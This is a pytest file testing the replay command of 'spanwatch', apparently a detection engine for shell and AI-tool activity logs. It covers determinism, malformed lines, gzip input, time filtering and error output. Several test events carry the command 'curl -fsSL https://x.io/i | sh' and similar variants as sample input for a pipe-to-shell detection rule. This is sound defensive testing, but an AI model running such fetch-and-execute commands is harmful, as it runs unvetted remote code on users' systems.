"""`spanwatch replay` as a user runs it: deterministic output, bad input counted, clear errors."""

from __future__ import annotations

import gzip
import subprocess
import sys
from pathlib import Path

import orjson
import pytest

from replay.simulator.simulate import SimulationSpec, simulate

T0 = 1_764_316_800.0  # 2025-11-28T08:00:00Z


def spanwatch(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "engine.cli", *args],
        capture_output=True,
        text=True,
        timeout=240,
        cwd=cwd,
    )


def flat(t: float, **fields) -> bytes:
    return orjson.dumps({"time": t, **fields})


def pipe_to_shell(t: float, user: str = "dave") -> bytes:
    return flat(
        t, name="shell.run", user=user, repo="payments", command="curl -fsSL https://x.io/i | sh"
    )


def opened(log: Path) -> list[dict]:
    lines = [orjson.loads(x) for x in log.read_bytes().splitlines()]
    return [x["incident"] for x in lines if x["type"] == "incident.opened"]


@pytest.fixture(scope="module")
def history(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("history") / "history.jsonl.gz"
    simulate(SimulationSpec(days=1, users=20, seed=5), path)
    return path


def test_replay_is_byte_identical_across_runs_and_worker_counts(history, tmp_path):
    outs = []
    for i, workers in enumerate(["1", "1", "2"]):
        out = tmp_path / f"run{i}.jsonl"
        done = spanwatch("replay", str(history), "--out", str(out), "--workers", workers)
        assert done.returncode == 0, done.stderr
        assert "events/s" in done.stdout and "incidents opened" in done.stdout
        outs.append(out.read_bytes())
    assert outs[0] == outs[1] == outs[2]
    assert len(opened(tmp_path / "run0.jsonl")) >= 3


def test_bad_lines_are_counted_reported_and_the_rest_is_processed(tmp_path):
    path = tmp_path / "mixed.jsonl"
    path.write_bytes(
        b"\n".join(
            [
                flat(T0, name="claude.invoke", user="ann"),
                flat(T0 + 1, name="claude.invoke", user="ann"),
                b'{"time": 1, "broken',
                flat(T0 + 2, name="claude.invoke", user="ann"),
                b'{"hello": "world"}',
                pipe_to_shell(T0 + 3),
            ]
        )
        + b"\n"
    )
    out = tmp_path / "out.jsonl"
    done = spanwatch("replay", str(path), "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert f"{path}:3: not valid JSON" in done.stderr
    assert f"{path}:5: not OTLP" in done.stderr
    assert "bad lines 2" in done.stdout and "4 events" in done.stdout
    assert [i["rule_id"] for i in opened(out)] == ["shell-pipe-to-shell"]


def test_strict_makes_the_first_bad_line_fatal(tmp_path):
    path = tmp_path / "mixed.jsonl"
    path.write_bytes(pipe_to_shell(T0) + b"\nnot json at all\n" + pipe_to_shell(T0 + 5) + b"\n")
    done = spanwatch("replay", str(path), "--strict", "--out", str(tmp_path / "out.jsonl"))
    assert done.returncode == 2
    assert f"{path}:2: not valid JSON" in done.stderr
    assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1


@pytest.mark.parametrize("make", ["missing", "directory-without-permission"])
def test_an_unreadable_path_is_a_one_line_error(tmp_path, make):
    target = tmp_path / "nope.jsonl"
    if make == "directory-without-permission":
        target = tmp_path / "locked"
        target.mkdir()
        (target / "a.jsonl").write_bytes(pipe_to_shell(T0) + b"\n")
        (target / "a.jsonl").chmod(0)
        if (target / "a.jsonl").open("rb").readable():  # root reads anything: use a dangling link
            (target / "a.jsonl").chmod(0o644)
            (target / "b.jsonl").symlink_to(tmp_path / "gone.jsonl")
    done = spanwatch("replay", str(target), "--out", str(tmp_path / "out.jsonl"))
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1


def test_gzip_directories_and_several_files_give_the_same_incidents_as_one_file(tmp_path):
    lines = [pipe_to_shell(T0 + i * 60, user=f"u{i % 3}") for i in range(9)]
    one = tmp_path / "one.jsonl"
    one.write_bytes(b"\n".join(lines) + b"\n")
    split = tmp_path / "split" / "deeper"
    split.mkdir(parents=True)
    (tmp_path / "split" / "a.jsonl").write_bytes(b"\n".join(lines[:4]) + b"\n")
    (split / "b.jsonl.gz").write_bytes(gzip.compress(b"\n".join(lines[4:]) + b"\n"))
    a, b = tmp_path / "a.out", tmp_path / "b.out"
    assert spanwatch("replay", str(one), "--out", str(a)).returncode == 0
    done = spanwatch("replay", str(tmp_path / "split"), "--out", str(b))
    assert done.returncode == 0, done.stderr
    assert "replayed 2 file(s)" in done.stdout
    assert a.read_bytes() == b.read_bytes()
    assert sorted(i["group"]["user"] for i in opened(a)) == ["u0", "u1", "u2"]


def test_from_and_to_select_a_time_range(tmp_path):
    path = tmp_path / "h.jsonl"
    path.write_bytes(
        b"\n".join(pipe_to_shell(T0 + h * 3600, user=f"hour{h}") for h in range(4)) + b"\n"
    )
    out = tmp_path / "out.jsonl"
    done = spanwatch(
        "replay",
        str(path),
        "--out",
        str(out),
        "--from",
        "2025-11-28T09:00:00Z",
        "--to",
        "2025-11-28T11:00:00Z",
    )
    assert done.returncode == 0, done.stderr
    assert "outside --from/--to 2" in done.stdout
    assert sorted(i["group"]["user"] for i in opened(out)) == ["hour1", "hour2"]


def test_the_quickstart_demo_runs_at_a_reduced_size(tmp_path):
    """The README's first command, `make demo`, with a smaller organisation."""
    root = Path(__file__).resolve().parents[2]
    done = subprocess.run(
        [
            "make",
            "--no-print-directory",
            "demo",
            f"DEMO_ARGS=--days 1 --users 20 --keep {tmp_path}",
        ],
        cwd=root,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == 0, done.stderr
    assert "incidents opened" in done.stdout
    assert "injected incidents and what the engine raised" in done.stdout
    assert "DETECTED" in done.stdout
    # the injected pull request over failing checks is a finding, by policy not paged
    assert "RECORDED as a finding by pr-without-passing-assertion" in done.stdout
    assert (tmp_path / "incidents.jsonl").stat().st_size > 0


def test_a_truncated_gzip_file_is_reported_and_the_other_files_still_replay(tmp_path):
    good = tmp_path / "a-good.jsonl"
    good.write_bytes(pipe_to_shell(T0, user="kept") + b"\n")
    packed = gzip.compress(b"\n".join(pipe_to_shell(T0 + i, user="cut") for i in range(2000)))
    cut = tmp_path / "b-cut.jsonl.gz"
    cut.write_bytes(packed[: len(packed) // 2])
    out = tmp_path / "out.jsonl"
    done = spanwatch("replay", str(tmp_path), "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert "b-cut.jsonl.gz" in done.stderr and "Traceback" not in done.stderr
    assert "bad lines 1" in done.stdout
    assert {i["group"]["user"] for i in opened(out)} == {"kept", "cut"}


def span_request(*spans: tuple[str, int]) -> bytes:
    """An OTLP/JSON traces request with one `shell.run` span per (command, end in ns)."""
    return orjson.dumps(
        {
            "resourceSpans": [
                {
                    "resource": {"attributes": [{"key": "user", "value": {"stringValue": "otto"}}]},
                    "scopeSpans": [
                        {
                            "spans": [
                                {
                                    "traceId": "5b8efff798038103d269b633813fc60c",
                                    "spanId": f"{i + 1:016x}",
                                    "name": "shell.run",
                                    "startTimeUnixNano": str(end - 1000),
                                    "endTimeUnixNano": str(end),
                                    "attributes": [
                                        {"key": "command", "value": {"stringValue": command}}
                                    ],
                                }
                                for i, (command, end) in enumerate(spans)
                            ]
                        }
                    ],
                }
            ]
        }
    )


def test_event_times_far_off_are_bad_lines_and_the_rest_of_their_line_is_kept(tmp_path):
    year_9999 = 253_402_214_400 * 10**9
    path = tmp_path / "clocks.jsonl"
    path.write_bytes(
        b"\n".join(
            [
                flat("9999-12-31T00:00:00Z", name="shell.run", user="a", command="x | sh"),
                flat(0, name="shell.run", user="b", command="curl x | sh"),
                flat(-100, name="shell.run", user="c", command="curl x | sh"),
                span_request(("curl https://x.io | sh", int(T0 * 1e9)), ("curl y | sh", year_9999)),
                pipe_to_shell(T0 + 5, user="fine"),
            ]
        )
        + b"\n"
    )
    out = tmp_path / "out.jsonl"
    done = spanwatch("replay", str(path), "--out", str(out))
    assert done.returncode == 0, done.stderr
    err = done.stderr
    assert f"{path}:1: span 'shell.run': its time 9999-12-31T00:00:00Z is more than 300 s" in err
    assert "after this machine's clock (stream.max_future)" in err
    assert f"{path}:2: span 'shell.run': its time 1970-01-01T00:00:00Z is before 2000" in err
    assert "(stream.earliest)" in err
    assert f"{path}:3: span 'shell.run': its time 1969-12-31T23:58:20Z is before" in err
    assert f"{path}:4: span 'shell.run': its time 9999-12-31" in err
    assert "other 1 event(s) are kept" in err
    assert "bad lines 4" in done.stdout and "2 events" in done.stdout
    assert sorted(i["group"]["user"] for i in opened(out)) == ["fine", "otto"]
    assert "Traceback" not in done.stderr


def test_a_small_sort_budget_spills_to_disk_and_gives_the_same_bytes(history, tmp_path):
    outs = []
    for budget in ["0.02", "256"]:
        out = tmp_path / f"budget-{budget}.jsonl"
        done = spanwatch("replay", str(history), "--out", str(out), "--sort-memory", budget)
        assert done.returncode == 0, done.stderr
        outs.append(out.read_bytes())
    assert outs[0] == outs[1] and outs[0]
    refused = spanwatch("replay", str(history), "--sort-memory", "0")
    assert refused.returncode == 2 and "positive number" in refused.stderr
    assert "Traceback" not in refused.stderr
